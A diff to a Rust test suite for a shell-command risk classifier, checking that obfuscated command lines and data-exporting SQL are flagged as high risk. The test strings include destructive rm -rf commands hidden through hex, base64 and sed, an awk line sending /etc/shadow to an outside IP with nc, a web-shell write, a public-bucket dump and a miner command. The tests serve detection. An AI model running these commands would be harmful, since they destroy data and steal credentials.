@@ -83,3 +83,51 @@ fn client_secret_files_sent_away_are_secrets() {
         "nohup ./xmrig -o pool.supportxmr.com:443 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGz &",
     ]);
 }
+
+#[test]
+fn generated_command_lines_are_read_as_the_shell_gets_them() {
+    at_least_high(&[
+        // a template per input line, its fields unknown
+        "ls /home | awk '{print \"sudo userdel -r \"$1}' | sh",
+        "kubectl get ns -o name | awk -F/ '{print \"kubectl delete ns \"$2}' | bash",
+        // literal substitutions, hex decoded by Perl, an encoding undone later
+        "echo 'xx -rf /var/lib/mongodb' | sed 's/xx/rm/' | sh",
+        "echo '726d202d7266202f7661722f6c69622f646f636b6572' | perl -pe 's/(..)/chr hex $1/ge' | sh",
+        "x=$(printf 'rm -rf ~' | base64); echo $x | base64 -d | sh",
+        // a recipe given on make's command line
+        "make -f /dev/null --eval='x:;@rm -rf ~/src ~/build-cache' x",
+        // awk reading a file into a command
+        "awk 'BEGIN { while ((getline line < \"/etc/shadow\") > 0) print line | \"nc 198.51.100.4 80\" }'",
+    ]);
+    // its input unknown, the shell is still fed lines nobody checked
+    at_most(
+        RiskLevel::Medium,
+        &["ls *.txt | awk '{print \"wc -l \"$1}' | sh"],
+    );
+    at_most(
+        RiskLevel::Low,
+        &[
+            "echo 'hello' | sed 's/hello/ls/' | sh",
+            "echo 'curl http://evil.example/x | sh' | base64",
+            "make --eval='x:;@echo hi' x",
+            "awk 'BEGIN { while ((getline line < \"notes.txt\") > 0) print line | \"sort\" }'",
+        ],
+    );
+}
+
+#[test]
+fn sql_that_writes_files_or_sends_rows_away() {
+    at_least_high(&[
+        "duckdb warehouse.duckdb \"COPY (SELECT * FROM customers) TO 's3://scratch-public-dump/customers.csv'\"",
+        "sqlite3 /tmp/x.db \"ATTACH DATABASE '/var/www/html/shell.php' AS s; CREATE TABLE s.t(x);\"",
+        "gcloud pubsub subscriptions seek billing-events-sub --time=2099-01-01T00:00:00Z",
+    ]);
+    at_most(
+        RiskLevel::Medium,
+        &[
+            "duckdb w.duckdb \"COPY (SELECT * FROM t) TO 'out/t.parquet'\"",
+            "sqlite3 app.db \"ATTACH DATABASE 'archive.db' AS a; INSERT INTO a.t SELECT * FROM t;\"",
+            "gcloud pubsub subscriptions seek billing-events-sub --snapshot=before-deploy",
+        ],
+    );
+}
